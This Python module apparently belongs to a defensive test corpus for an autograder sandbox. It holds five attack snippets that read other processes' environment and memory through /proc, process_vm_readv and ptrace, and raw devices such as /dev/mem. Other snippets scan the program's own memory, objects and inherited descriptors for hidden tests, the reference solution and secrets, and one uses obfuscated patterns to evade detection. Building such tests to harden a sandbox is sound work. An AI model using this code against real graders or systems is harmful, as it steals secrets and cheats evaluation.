"""Attacks on what is in memory: their own, and that of other processes."""

from __future__ import annotations

from tests.corpus.attacks.making import wager
from tests.corpus.attacks.recipe import Attack

_PROCESSES = """
def show(path):
    with open(path, "rb") as file:
        return file.read(4000)


if len(os.environ) > 30:
    WON.append("the environment of whoever grades")
print(dict(os.environ), sys.argv, sys.orig_argv)
for pid in ("self", "thread-self", os.getpid(), os.getppid(), 1, 2):
    for name in ("environ", "cmdline", "maps", "mem", "status", "mountinfo", "stack", "syscall", "net/tcp", "net/unix"):
        attempt(f"{pid} {name}", lambda: show(f"/proc/{pid}/{name}"))
    for name in ("cwd", "exe", "root", "fd/0"):
        if pid not in ("self", "thread-self", os.getpid()):
            attempt(f"{pid} {name}", lambda: os.readlink(f"/proc/{pid}/{name}"))
attempt("processes", lambda: os.listdir("/proc"))
attempt("kernel", lambda: show("/proc/kallsyms") or show("/proc/cmdline"))
attempt("devices", lambda: (show("/dev/mem"), show("/dev/kmsg"), show("/dev/sda")))
"""

_OTHER_MEMORY = """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def steal(pid, address):
    buffer = ctypes.create_string_buffer(4096)
    near, far = Vector(ctypes.addressof(buffer), 4096), Vector(address, 4096)
    checked(libc.process_vm_readv(pid, ctypes.byref(near), 1, ctypes.byref(far), 1, 0))
    return buffer.raw


PTRACE_ATTACH, PTRACE_SEIZE, PIDFD_OPEN, PIDFD_GETFD, KCMP = 16, 0x4206, 434, 438, 312
for pid in (os.getppid(), 1, 2, 3):
    attempt(f"memory of {pid}", lambda: steal(pid, id(WON)))
    attempt(f"trace {pid}", lambda: checked(libc.ptrace(PTRACE_SEIZE, pid, 0, 0)))
    attempt(f"hold {pid}", lambda: checked(libc.syscall(PIDFD_OPEN, pid, 0)))
    attempt(f"descriptor of {pid}", lambda: checked(libc.syscall(PIDFD_GETFD, 3, 0, 0)))
    attempt(f"compare with {pid}", lambda: checked(libc.syscall(KCMP, os.getpid(), pid, 0, 0, 0)))
    attempt(f"open the memory of {pid}", lambda: open(f"/proc/{pid}/mem", "rb").read(1))
"""

_OWN_MEMORY = """
import gc, re

STEP, PIECE = 1 << 20, 1 << 15
OUT, IN = os.pipe()
WORDS = ("neddih/stset", "wodaem.ecnerefer", "wodaem_tset", "YRANAC", "terces-esruoc")
# One letter a class: neither the pattern nor its source holds a word as it would stand in memory.
PATTERN = re.compile("|".join("".join(f"[{letter}]" for letter in reversed(word)) for word in WORDS).encode())


def pieces(start):
    for address in range(start, start + STEP, PIECE):
        size = libc.write(IN, ctypes.c_void_p(address), ctypes.c_size_t(PIECE))  # an error where nothing is
        if size > 0:
            yield os.read(OUT, size)



def haystack():
    starts = {id(thing) & -STEP for thing in gc.get_objects()[::20]}
    until = time.monotonic() + 0.6
    for start in sorted({start + move * STEP for start in starts for move in range(-3, 4)}):
        yield from pieces(start)
        if time.monotonic() > until:
            return


def scan():
    found, size = [], 0
    for piece in haystack():
        size += len(piece)
        found += [piece[max(match.start() - 200, 0) : match.end() + 200] for match in PATTERN.finditer(piece)]
    print("looked at", size >> 20, "MB")
    if not found:
        raise LookupError("nothing")
    return found


attempt("scan", scan)
"""

_OBJECTS = """
import gc, inspect, linecache, types


def strangers():
    found = []
    for thing in gc.get_objects():
        if isinstance(thing, types.ModuleType):
            name, file = str(thing.__name__), str(getattr(thing, "__file__", ""))
            if name.partition(".")[0] in ("reference", "tests", "conftest", "pytest", "nbgrader") or COURSE in file:
                found.append((name, file))
        elif isinstance(thing, types.FunctionType) and thing.__name__ in ("normalise", "double", "test_matrix"):
            found.append(thing.__code__.co_consts)
        elif isinstance(thing, dict) and {"seed", "secret"} <= {key for key in thing if type(key) is str}:
            found.append(thing)
    if not found:
        raise LookupError("nothing")
    return found


attempt("objects", strangers)
frame = sys._getframe()
while frame is not None:
    print(frame.f_code.co_name, {name: str(value)[:500] for name, value in frame.f_locals.items()})
    frame = frame.f_back
print([name for name in linecache.cache if "hidden" in name or "reference" in name])
print(np.frombuffer(np.empty(1 << 20, np.uint8), np.uint8)[:1000].tobytes().strip(bytes(1)))
"""

_DESCRIPTORS = """
def peek(number):
    os.set_blocking(number, False)
    os.fstat(number)
    for read in (lambda: os.pread(number, 1000, 0), lambda: os.read(number, 1000)):
        try:
            data = read()
        except OSError:
            continue
        if data:
            return number, data
    raise LookupError("silent")


for number in (0, 1, 2, *range(4, 300)):
    attempt(f"descriptor {number}", lambda: peek(number))
"""


def _read(student: str, tries: str, deeds: str) -> Attack:
    return wager(student, "read", tries, deeds, success="points, or a canary in anything that it printed")


ATTACKS: tuple[Attack, ...] = (
    _read("read_processes", "It reads the environment and what the kernel tells of other processes.", _PROCESSES),
    _read("read_other_memory", "It reads the memory of the processes above it.", _OTHER_MEMORY),
    _read("read_own_memory", "It searches its own memory for what was there before it was forked.", _OWN_MEMORY),
    _read("read_objects", "It searches all objects and frames for the suite, the reference and the secret.", _OBJECTS),
    _read("read_descriptors", "It reads every descriptor that it might have inherited.", _DESCRIPTORS),
)
